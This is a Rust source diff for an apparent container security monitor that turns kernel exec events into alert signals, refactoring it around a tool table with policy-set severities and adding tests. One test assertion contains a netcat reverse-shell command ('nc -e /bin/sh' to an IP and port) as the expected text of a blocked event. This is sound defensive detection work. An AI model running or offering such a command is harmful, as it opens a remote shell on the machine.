@@ -2,8 +2,7 @@
 
 use portcullis_bpf::abi::{Ancestor, Event, Hook, Verdict, flags, identified_by};
 use portcullis_policy::{
-    catalog::{self, Catalog},
-    policyset,
+    catalog, policyset,
     record::{ContainerRecord, Guard},
 };
 use portcullis_proto::v1;
@@ -12,6 +11,7 @@ use crate::{
     clock::{BootOffset, timestamp},
     containers::{Container, Image},
     text,
+    tools::Tools,
 };
 
 /// An executed tool.
@@ -22,15 +22,15 @@ pub const RULE_UNGUARDED: &str = "container_unguarded";
 const CRI: &str = "io.kubernetes.cri.";
 
 /// The signal of an event. The container is `None` when it has no record.
-pub fn from_event(event: &Event, container: Option<&Container>, catalog: &Catalog, offset: BootOffset) -> v1::Signal {
-    let tool = catalog.tool(event.tool);
+pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, offset: BootOffset) -> v1::Signal {
+    let tool = tools.get(event.tool);
     let record = container.map(|container| container.record.as_ref());
     let verdict = verdict(event.verdict);
     let argv: Vec<String> = event.argv.iter().map(|argument| text::lossy(argument)).collect();
     let argv_truncated = event.flags & (flags::ARGV_TRUNCATED | flags::EVENT_REDUCED) != 0;
     let at = |boot_ns| Some(timestamp(offset.wall_ns(boot_ns)));
     let (tool_id, category) = match tool {
-        Some(tool) => (tool.id.clone(), tool.category.clone()),
+        Some((tool, _)) => (tool.id.clone(), tool.category.clone()),
         // The table in the kernel is newer than this catalogue.
         None => (format!("tool-{}", event.tool), "unknown".to_owned()),
     };
@@ -48,14 +48,14 @@ pub fn from_event(event: &Event, container: Option<&Container>, catalog: &Catalo
     v1::Signal {
         id: 0,
         rule: RULE_NET_UTIL.to_owned(),
-        severity: tool.map_or(v1::Severity::Medium, |tool| severity(tool.severity)).into(),
+        severity: tool.map_or(v1::Severity::Medium, |(_, level)| severity(level)).into(),
         verdict: verdict.into(),
         time: at(event.time_ns),
         message: format!("{tool_id} ({category}) {done} in container {place}: {command}"),
         tool: Some(v1::Tool {
             id: tool_id,
             category,
-            techniques: tool.map(|tool| tool.techniques.clone()).unwrap_or_default(),
+            techniques: tool.map(|(tool, _)| tool.techniques.clone()).unwrap_or_default(),
         }),
         identified_by: identifications(event.identified_by),
         container: Some(match container {
@@ -231,16 +231,20 @@ mod tests {
         Container { record: Arc::new(record), image: Image::Known("alpine:3".into()), ended_ns: None }
     }
 
+    fn tools() -> Tools {
+        Tools::new(catalog::Catalog::shipped().unwrap())
+    }
+
     /// The kernel's id of a tool.
-    fn tool_id(catalog: &Catalog, id: &str) -> u32 {
-        (0..1000).find(|kernel_id| catalog.tool(*kernel_id).is_some_and(|tool| tool.id == id)).unwrap()
+    fn tool_id(tools: &Tools, id: &str) -> u32 {
+        tools.catalog().tools().iter().find(|tool| tool.id == id).unwrap().kernel_id()
     }
 
     #[test]
     fn an_event_becomes_a_signal() {
-        let catalog = Catalog::shipped().unwrap();
-        let event = testing::event(42, tool_id(&catalog, "nc"), 10);
-        let signal = from_event(&event, Some(&container(42)), &catalog, BootOffset::now());
+        let tools = tools();
+        let event = testing::event(42, tool_id(&tools, "nc"), 10);
+        let signal = from_event(&event, Some(&container(42)), &tools, BootOffset::now());
         assert_eq!(signal.message, "nc (netcat) blocked in container c1: nc -e /bin/sh 10.0.0.1 4444");
         assert_eq!(signal.rule, "net_util_in_container");
         assert_eq!(signal.verdict(), v1::Verdict::Blocked);
@@ -259,12 +263,24 @@ mod tests {
     }
 
     #[test]
+    fn the_policy_may_give_another_severity() {
+        let tools = tools();
+        let nc = tool_id(&tools, "nc");
+        let severity = || from_event(&testing::event(42, nc, 10), None, &tools, BootOffset::now()).severity();
+        let before = severity();
+        tools.set_severities([(nc, catalog::Severity::Low)].into());
+        assert_eq!(severity(), v1::Severity::Low);
+        tools.set_severities([].into());
+        assert_eq!(severity(), before);
+    }
+
+    #[test]
     fn hostile_bytes_stay_readable() {
-        let catalog = Catalog::shipped().unwrap();
+        let tools = tools();
         let mut event = testing::event(42, u32::MAX, 10);
         event.argv = vec![b"\xff\x1b[2J".to_vec(), b"a b".to_vec()];
         event.flags = flags::ARGV_TRUNCATED | flags::EXEC_SESSION;
-        let signal = from_event(&event, None, &catalog, BootOffset::now());
+        let signal = from_event(&event, None, &tools, BootOffset::now());
         assert_eq!(
             signal.message,
             format!("tool-{} (unknown) blocked in container with cgroup 42: \u{fffd}\\u{{1b}}[2J 'a b' …", u32::MAX)
